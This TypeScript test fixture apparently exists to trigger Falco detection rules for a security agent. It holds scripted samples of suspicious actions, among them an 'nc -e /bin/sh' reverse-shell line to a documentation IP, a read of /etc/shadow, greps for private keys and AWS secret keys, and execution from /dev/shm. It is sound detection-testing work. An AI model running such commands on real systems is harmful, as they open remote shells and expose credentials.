// SPDX-License-Identifier: Apache-2.0
// What Falco's own rules shall fire for, done for real under the sensor by record-samples.ts. A program is what its name says
// to Falco, so perl stands in for most.

import type { ProcessFacts } from '../apps/agent/src/observe/enrichment.ts'
import type { SiteObservation } from '../apps/agent/src/observe/observe.ts'

export type FalcoSample = {
  readonly script: string
  readonly isIt: (observation: SiteObservation) => boolean
  /** What the agent would have looked up: the recorder is in no container and at no terminal. */
  readonly facts?: ProcessFacts
}

const container: ProcessFacts = {
  groups: {
    container: { uid: '4f797c539e6c745de61a93ca3ff892358ecbcaccd8414d5db545c38428142970', runtime: 'containerd' },
    names: { name: 'web', image: { uid: 'b1d2c3'.repeat(10), name: 'docker.io/library/nginx:1.25' } },
  },
  terminal: 'pts/0',
}
const isExec = (comm: string) => (o: SiteObservation) => o.kind === 'exec' && o.actor.comm === comm

/** `bin`: a folder for programs under other names; `data`: one that stands in for the root of the file system. */
export const falcoSamples = (bin: string, data: string): Readonly<Record<string, FalcoSample>> => ({
  'sensitive-file-read-later': {
    script: `exec ${bin}/nginx -e 'sleep 6; open(F, "<", "/etc/shadow")'`,
    isIt: (o) => o.kind === 'file_open' && o.watched === '/etc/shadow' && o.actor.comm === 'nginx',
  },
  'shell-by-server': {
    script: `exec ${bin}/nginx -e 'system("sh", "-c", "id > /dev/null; true")'`,
    isIt: isExec('sh'),
  },
  'system-user-interactive': {
    script: `exec ${bin}/sshd -e 'system("setpriv", "--reuid=33", "--clear-groups", "id")'`,
    isIt: (o) => o.kind === 'exec' && o.actor.comm === 'id' && o.actor.euid === 33,
  },
  'terminal-shell': {
    script: `exec ${bin}/containerd-shim -e 'system("sh", "-c", "true")'`,
    isIt: isExec('sh'),
    facts: container,
  },
  'netcat-executes': {
    script: `exec ${bin}/nc -e /bin/sh 192.0.2.7 4444`,
    isIt: isExec('nc'),
    facts: container,
  },
  'private-keys-searched': { script: 'exec grep "BEGIN RSA PRIVATE" /dev/null', isIt: isExec('grep') },
  'cloud-credentials-searched': { script: 'exec grep aws_secret_access_key /dev/null', isIt: isExec('grep') },
  'data-shredded': { script: 'exec shred --version', isIt: isExec('shred') },
  'shadow-linked': {
    script: `exec ln ${data}/etc/shadow ${data}/shadow`,
    isIt: (o) => o.kind === 'file_change' && o.change === 'link' && o.watched === `${data}/etc/shadow`,
  },
  'packet-socket': {
    script: `exec perl -MSocket=:all -e 'socket(S,17,SOCK_RAW,0x0300)'`,
    isIt: (o) => o.kind === 'socket' && o.actor.comm === 'perl',
    facts: container,
  },
  'traced-by-request': {
    script: `exec perl -e 'syscall(101, 0, 0, 0, 0)'`,
    isIt: (o) => o.kind === 'ptrace' && o.actor.comm === 'perl',
  },
  'dev-shm-exec-by-path': {
    script: 'cp /bin/true /dev/shm/payload; /dev/shm/payload; rm /dev/shm/payload',
    isIt: isExec('payload'),
  },
  'ssh-to-other-port': {
    script: `exec unshare --net perl -MSocket=:all -e 'system("ip link set lo up; ip addr add 192.0.2.7/32 dev lo"); $^F = 99;
      socket(S,AF_INET,SOCK_STREAM,6);bind(S,pack_sockaddr_in(443,INADDR_ANY));listen(S,1);
      exec("${bin}/ssh","-MSocket=:all","-e","socket(C,AF_INET,SOCK_STREAM,6);connect(C,pack_sockaddr_in(443,inet_aton(q(192.0.2.7))))")'`,
    isIt: (o) => o.kind === 'connect' && o.actor.comm === 'ssh' && o.socket.remote !== null,
  },
})
export const falcoPrograms = ['nginx', 'sshd', 'containerd-shim', 'nc', 'ssh'] as const
